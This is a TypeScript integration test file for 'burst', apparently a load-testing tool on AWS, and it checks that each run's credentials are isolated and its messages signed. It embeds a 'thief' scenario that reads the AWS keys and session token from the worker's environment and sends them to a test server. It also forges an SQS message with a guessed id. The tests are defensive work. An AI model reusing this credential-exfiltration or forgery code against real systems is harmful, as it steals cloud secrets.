import { IAMClient, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam'
import { GetObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3'
import { SQSClient, SendMessageCommand } from '@aws-sdk/client-sqs'
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts'
import { mkdir, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { createServer as createTcpServer } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { encodeMessage } from '../../../core/window/codec/codec.ts'
import type { RunPlan } from '../../../core/plan/plan.ts'
import type { Report } from '../../../core/report/report.ts'
import { runPolicy } from '../../../functions/aws/run-credentials.ts'
import { keys } from '../../../functions/keys.ts'
import { messageOf } from '../../fixtures/windows.ts'
import { ended, listening } from '../../targets/server.ts'
import { Account } from '../account.ts'
import type { Cloud } from '../emulators/cloud.ts'
import { startMiniStack } from '../emulators/ministack.ts'
import { type Person, newPerson, writeScenario } from '../person.ts'
import { until } from '../until.ts'
import { ways } from './ways-to-send.ts'

interface Credentials {
  accessKeyId: string
  secretAccessKey: string
  sessionToken: string
}

/** The credentials that the scenario sent to the target. */
const told: Credentials[] = []
/** The result of each way to send a request: once from the code of a user and once from a hook. */
let reached: { user?: Record<string, string>; hook?: Record<string, string> } = {}
const target = createServer((request, response) => {
  const { pathname, searchParams } = new URL(request.url ?? '/', 'http://target')
  const said = (name: string): string => searchParams.get(name) ?? ''
  if (pathname === '/reached') reached = JSON.parse(said('outcomes')) as typeof reached
  if (pathname === '/')
    told.push({ accessKeyId: said('key'), secretAccessKey: said('secret'), sessionToken: said('token') })
  response.end('ok')
})
/** A server on `localhost`, a host that the stack does not allow. */
const forbidden = createTcpServer((socket) => {
  connections++
  socket.destroy()
})
let connections = 0

let cloud: Cloud
let account: Account
let person: Person
let report: Report

/** A scenario that sends the environment of its worker to the target. */
const thief = (port: string, origin: string): string => `import { HttpUser, hold, ramp, scenario } from 'burst'
import { all } from './ways.mjs'
class Thief extends HttpUser {
  tasks = { tell: 1 }
  async onStart() {
    const outcomes = JSON.stringify({ user: await all(${port}, '${origin}'), hook: this.data })
    await this.http.get('/reached?' + new URLSearchParams({ outcomes }), { name: '/reached' })
  }
  async tell() {
    const { AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY, AWS_SESSION_TOKEN } = process.env
    const query = new URLSearchParams({ key: AWS_ACCESS_KEY_ID, secret: AWS_SECRET_ACCESS_KEY, token: AWS_SESSION_TOKEN })
    await this.http.get('/?' + query, { name: '/' })
    await this.sleep('1s')
  }
}
export default scenario({ host: 'http://127.0.0.1:1', users: [Thief], load: [ramp(1, '0s'), hold('2s')], beforeRun: () => all(${port}, '${origin}') })
`

beforeAll(async () => {
  cloud = await startMiniStack()
  account = new Account(cloud)
  person = await newPerson(cloud)
  const origin = await listening(target)
  await person.manages('deploy', '--yes', '--allow', cloud.targetHost, '--allow', 'shop.example.com')
  await writeFile(join(person.folder, 'thief.burst.ts'), thief(new URL(await listening(forbidden)).port, origin))
  await writeFile(join(person.folder, 'ways.mjs'), ways)
  await mkdir(join(person.folder, 'node_modules'))
  await symlink(
    join(import.meta.dirname, '../../../node_modules/undici'),
    join(person.folder, 'node_modules', 'undici'),
  )
  const { stdout } = await person.manages('run', 'thief.burst.ts', '--yes', '--json', '-H', origin)
  report = JSON.parse(stdout) as Report
}, 300_000)
afterAll(async () => {
  await ended(target)
  await ended(forbidden)
  await cloud?.stop()
  if (person) await rm(person.folder, { recursive: true, force: true })
}, 60_000)

test('a run works with credentials that are valid only for this run', () => {
  expect(report.completeness).toMatchObject({ complete: true, lost: [], unreadable: 0 })
  expect(report.totals.requests).toBeGreaterThan(0)
})

test('neither a scenario nor its hook can reach a host that the stack does not allow', () => {
  for (const outcomes of [reached.user, reached.hook]) {
    const { allowed, ...others } = outcomes ?? {}
    expect(allowed).toBe('went through')
    expect(Object.keys(others)).toHaveLength(18)
    expect(Object.entries(others).filter(([, outcome]) => outcome !== 'BURST_REFUSED')).toEqual([])
  }
  expect(connections).toBe(0)
})

test('with the credentials in the environment of a worker, a scenario cannot access runs, list the bucket or send messages', async () => {
  const found = told[0]
  if (!found?.accessKeyId) throw new Error('the scenario found no credentials')
  const run = report.run.id
  expect(await attempts(found, run)).toEqual({
    plan: 'denied',
    secret: 'denied',
    control: 'denied',
    claim: 'denied',
    list: 'denied',
    message: 'denied',
  })
})

test('the credentials of a run give access only to this run and to the shared queue', async () => {
  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.plan('other'), Body: '{}' }))
  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.secret('other'), Body: 's' }))
  await account.s3.send(new PutObjectCommand({ Bucket: await bucket(), Key: keys.control('other'), Body: '{}' }))
  const credentials = await credentialsOf(report.run.id)
  const own = { plan: 'done', secret: 'done', control: 'done', claim: 'done', list: 'denied', message: 'done' }
  expect(await attempts(credentials, report.run.id)).toEqual(own)
  expect(await attempts(credentials, 'other')).toEqual({
    plan: 'denied',
    secret: 'denied',
    control: 'denied',
    claim: 'denied',
    list: 'denied',
    // SQS permissions cannot depend on the message group, so messages are signed and have ids that cannot be guessed.
    message: 'done',
  })
})

test('a message without a valid signature is set aside as unreadable, and a guessed id does not suppress the real message', async () => {
  const run = report.run.id
  const forged = encodeMessage(messageOf({ run, build: report.run.build, sequence: 1000 }))
  const before = await account.keys(keys.unreadables(run))
  // Guesses the id of the run's first message. If two messages have the same id within five minutes, SQS drops the second.
  await send(account.sqs, run, { body: forged, id: `${run}-0-0-0` })
  const found = async (): Promise<string | undefined> =>
    (await account.keys(keys.unreadables(run))).find((key) => !before.includes(key))
  const aside = await until(found, 'the forged message was not set aside')
  expect(await account.object(aside)).toContain('it is not signed by a worker of its run')
})

test('the plan contains no secrets of the run', async () => {
  const plan = JSON.parse(await account.object(keys.plan(report.run.id))) as RunPlan
  expect(plan.signed).toBe(true)
  expect(JSON.stringify(plan)).not.toContain(await account.object(keys.secret(report.run.id)))
})

test('burst watch does not start a run if the start was refused or if the command died before the start', async () => {
  const limited = await newPerson(cloud, await account.userWithout('lambda:InvokeFunction'))
  const scenario = await writeScenario(limited.folder, report.run.host)
  const known = await account.keys('runs/')
  const refused = await limited.burst('run', scenario, '--yes', '-t', '10m')
  expect([refused.code, refused.stderr]).toEqual([97, expect.stringContaining('AWS denies you lambda:InvokeFunction')])
  expect(await readdir(limited.folder)).toEqual([scenario])
  const plan = (await account.keys('runs/')).find((key) => key.endsWith('/plan.json') && !known.includes(key))
  const run = plan?.split('/')[1] ?? ''
  const before = told.length
  const watched = await person.burst('watch', run)
  expect([watched.code, watched.stderr]).toEqual([97, expect.stringContaining(`run ${run} was never started`)])
  expect(await account.keys(keys.coordinator(run))).toEqual([])
  // The command died after it had marked the run as active, but before it invoked the coordinator. The mark therefore exists, and the lease has expired.
  const at = Date.now() - 60_000
  await account.put(keys.control(run), JSON.stringify({ v: 1, startAt: at, leaseUntil: at + 30_000, stop: null }))
  await account.put(keys.active(run), '')
  const late = await person.burst('watch', run, '--json')
  const { verdict, users } = JSON.parse(late.stdout) as Report
  expect([late.code, verdict.reasons[0], users.started]).toEqual([97, expect.stringContaining('never began'), 0])
  expect(await account.keys(keys.claims(run))).toEqual([])
  expect(told.length).toBe(before)
  await rm(limited.folder, { recursive: true, force: true })
})

/** Tries every kind of access to a run with these credentials. @returns the outcome of each attempt */
async function attempts(credentials: Credentials, run: string): Promise<Record<string, string>> {
  const settings = { ...account.settings, credentials }
  const s3 = new S3Client({ ...settings, forcePathStyle: true })
  const Bucket = await bucket()
  const get = async (Key: string): Promise<string> => outcome(s3.send(new GetObjectCommand({ Bucket, Key })))
  return {
    plan: await get(keys.plan(run)),
    secret: await get(keys.secret(run)),
    control: await get(keys.control(run)),
    claim: await outcome(s3.send(new PutObjectCommand({ Bucket, Key: keys.claim(run, 999, 0), Body: '{}' }))),
    list: await outcome(s3.send(new ListObjectsV2Command({ Bucket }))),
    message: await outcome(send(new SQSClient(settings), run, { body: 'forged' })),
  }
}

/** `done` or `denied`; any other error of the call fails the test. */
async function outcome(work: Promise<unknown>): Promise<string> {
  try {
    await work
    return 'done'
  } catch (error) {
    if (/AccessDenied|not authorized/.test(`${(error as Error).name} ${(error as Error).message}`)) return 'denied'
    throw error
  }
}

async function send(
  sqs: SQSClient,
  run: string,
  { body, id = `${run}-${Math.random()}` }: { body: string; id?: string },
): Promise<void> {
  const QueueUrl = await account.output('QueueUrl')
  await sqs.send(
    new SendMessageCommand({
      QueueUrl,
      MessageBody: body,
      MessageGroupId: `${run}#0`,
      MessageDeduplicationId: id,
    }),
  )
}

/**
 * The credentials that the coordinator gives to the workers of a run. To get them, this function lets the test's own account assume the role that
 * otherwise only the coordinator can assume.
 */
async function credentialsOf(run: string): Promise<Credentials> {
  const { bundle } = JSON.parse(await account.object(keys.plan(run))) as RunPlan
  const places = {
    role: 'arn:aws:iam::000000000000:role/burst-run-us-east-1',
    bucketArn: `arn:aws:s3:::${await bucket()}`,
    queueArn: `arn:aws:sqs:us-east-1:000000000000:${(await account.output('QueueUrl')).split('/').at(-1)}`,
    keyArn: undefined,
  }
  await trustRoot(places.role.split('/').at(-1) ?? '')
  const Policy = JSON.stringify(runPolicy(places, { run, bundle }))
  const { Credentials } = await new STSClient(account.settings).send(
    new AssumeRoleCommand({ RoleArn: places.role, RoleSessionName: 'test', Policy }),
  )
  const { AccessKeyId = '', SecretAccessKey = '', SessionToken = '' } = Credentials ?? {}
  return { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: SessionToken }
}

async function trustRoot(RoleName: string): Promise<void> {
  const Principal = { AWS: 'arn:aws:iam::000000000000:root' }
  const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'sts:AssumeRole', Principal }] }
  const PolicyDocument = JSON.stringify(trust)
  await new IAMClient(account.settings).send(new UpdateAssumeRolePolicyCommand({ RoleName, PolicyDocument }))
}

async function bucket(): Promise<string> {
  return account.output('BucketName')
}
